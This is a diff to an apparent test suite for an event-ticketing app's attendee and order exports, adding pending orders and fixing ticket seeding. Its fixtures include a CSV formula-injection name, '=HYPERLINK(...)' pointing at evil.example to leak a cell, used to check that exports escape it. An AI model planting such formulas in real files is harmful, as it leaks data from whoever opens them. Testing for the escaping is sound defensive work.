@@ -1,5 +1,5 @@
 // @vitest-environment node
-// Exports of 1,000 attendees (500 orders of 2 tickets) on both stores: the CSV has the database's rows, with a
+// Exports of 1,000 attendees (500 orders of 2 tickets, 10 pending orders between them) on both stores: the CSV has the database's rows, with a
 // buyer's `=HYPERLINK(...)` name and other formula starts escaped; the XLSX, converted to CSV by LibreOffice
 // (`soffice --headless --convert-to csv`), has the same rows; the orders export likewise. Who may export: a fresh
 // owner, an orders:read API token; not a check-in-only token (403), a stale session (403), another organizer (404).
@@ -17,7 +17,9 @@ import { rows } from "../../testing/sql.ts";
 import { startServerOn, testStores } from "../../testing/stores.ts";
 
 const EVENT = 101;
-const ORDERS = 500;
+/** Every 51st is pending, without tickets: 500 orders with 2 tickets, and more orders than one page (500). */
+const ORDERS = 510;
+const pendingAt = (i: number) => i % 51 === 50;
 /** Names a spreadsheet would run or misread, and what the export must make of them. */
 const TRICKY: [name: string, exported: string][] = [
   ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', `'=HYPERLINK("https://evil.example/?leak="&A1,"Click")`],
@@ -62,7 +64,8 @@ function parseCsv(text: string): string[][] {
 
 const kysely = (store: Store) => (store as unknown as { kysely: Kysely<any> }).kysely;
 
-/** 500 orders of event 101, each with a line of 2 tickets of 10101 or 10102; the first ones carry TRICKY names. */
+/** 510 orders of event 101, each with a line of 2 tickets of 10101 or 10102 (issued unless the order is pending);
+ *  the first ones carry TRICKY names. */
 async function seedAttendees(store: Store) {
   const db = kysely(store);
   const orders = [];
@@ -76,7 +79,7 @@ async function seedAttendees(store: Store) {
       id,
       event_id: EVENT,
       link_token: `lt-${id}`,
-      status: i % 50 === 7 ? "refunded" : "paid",
+      status: pendingAt(i) ? "pending" : i % 50 === 7 ? "refunded" : "paid",
       payment_method: "card",
       first_name: TRICKY[i]?.[0] ?? `First${i}`,
       last_name: `Last ${i}`,
@@ -102,14 +105,15 @@ async function seedAttendees(store: Store) {
       unit_price: price,
       quantity: 2,
     });
-    for (const position of [1, 2])
-      tickets.push({
-        id: `${id}-t${position}`,
-        order_id: id,
-        ticket_id: ticketId,
-        position,
-        code: `CODE-${i}-${position}`,
-      });
+    if (!pendingAt(i))
+      for (const position of [1, 2])
+        tickets.push({
+          id: `${id}-t${position}`,
+          order_id: id,
+          ticket_id: ticketId,
+          position,
+          code: `CODE-${i}-${position}`,
+        });
   }
   for (let i = 0; i < ORDERS; i += 100) {
     await db
@@ -120,11 +124,12 @@ async function seedAttendees(store: Store) {
       .insertInto("order_lines")
       .values(lines.slice(i, i + 100))
       .execute();
+  }
+  for (let i = 0; i < tickets.length; i += 200)
     await db
       .insertInto("issued_tickets")
-      .values(tickets.slice(2 * i, 2 * i + 200))
+      .values(tickets.slice(i, i + 200))
       .execute();
-  }
   // One ticket has an attendee of its own: the attendees export names them, not the buyer.
   await db
     .insertInto("ticket_attendees")
@@ -214,7 +219,7 @@ describe.each(testStores)("exports on %s", (_name, kind) => {
     expect(csv.res.headers.get("content-disposition")).toBe(`attachment; filename="event-${EVENT}-attendees.csv"`);
     const fromCsv = parseCsv(csv.bytes.toString("utf8"));
     const expected = await attendeesInDb(server.store);
-    expect(expected.length).toBeGreaterThanOrEqual(1000);
+    expect(expected.length).toBe(1000);
     expect(fromCsv[0]).toEqual([
       "Ticket code",
       "Ticket type",
